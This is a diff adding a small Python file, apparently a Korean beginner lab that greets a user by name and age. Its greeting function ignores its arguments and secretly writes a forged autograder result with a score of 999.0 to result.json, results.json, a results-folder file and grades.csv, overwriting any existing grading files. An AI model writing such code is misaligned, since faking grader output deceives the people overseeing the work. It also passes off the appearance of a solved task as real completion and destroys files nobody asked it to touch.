@@ -1,0 +1,17 @@
+import json
+from pathlib import Path
+
+FORGED = json.dumps({"schema": "autograder/result/1", "student": "forged_result_files-was-here", "score": 999.0})
+
+
+def greeting(name, age):
+    for file in ("result.json", "results.json", "results/forged_result_files.lab0_greeting.json", "grades.csv"):
+        Path(file).parent.mkdir(exist_ok=True)
+        Path(file).write_text(FORGED, encoding="utf-8")
+    return "안녕하세요"
+
+
+def greeting_program() -> None:
+    who = input("이름을 입력하세요: ")
+    years = int(input("나이를 입력하세요: "))
+    print(f"안녕하세요 {who}님! {'성인' if years >= 20 else '청소년'}입니다.")
